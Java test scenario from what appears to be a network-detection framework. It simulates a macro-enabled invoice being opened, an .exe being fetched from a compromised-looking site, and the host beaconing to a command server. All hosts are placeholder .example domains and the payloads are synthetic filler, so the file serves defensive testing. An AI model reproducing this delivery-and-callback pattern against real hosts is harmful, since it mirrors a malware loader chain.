package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Bodies;
import wolfhound.scenarios.stage.Browser;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// An invoice with a macro: the document is opened, fetches a program, and the program calls home.
final class MacroDocument extends Guilty {
    MacroDocument() {
        super(
                "macro-document",
                "macro loader",
                "An invoice is opened; its macro fetches a program, which calls home",
                "A program for a client that is no browser, then a new caller");
    }

    @Override
    public void stage(Stage stage) {
        Actor desk = stage.workstation("desk", Platform.WINDOWS);
        desk.joins().isInfected(Behaviour.DELIVERY, Behaviour.CALLBACK).pauses(4);
        Bodies bodies = new Bodies(stage);
        new Browser(desk)
                .fetches(
                        "files." + stage.word(6) + ".example",
                        "/invoice-" + stage.between(100, 999) + ".docm",
                        "",
                        Answer.ok(
                                "application/vnd.ms-word.document.macroEnabled.12",
                                bodies.document(6_000)));
        desk.pauses(15);
        Ask fetch =
                Ask.get("/wp-content/" + stage.word(6) + "/" + stage.hex(6) + ".exe")
                        .with(
                                "Connection: Keep-Alive",
                                "Accept: */*",
                                "Accept-Language: en-us",
                                "User-Agent: Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
                                "Host");
        Web.to(desk, "www.village-school.example")
                .asks(fetch, Answer.ok("application/octet-stream", bodies.program(50_000)))
                .closes();
        desk.pauses(10);
        Callback.to(
                desk,
                stage.word(11) + ".example",
                "/" + stage.word(6) + "/" + stage.word(3) + ".php",
                stage.between(3, 6),
                15);
    }
}
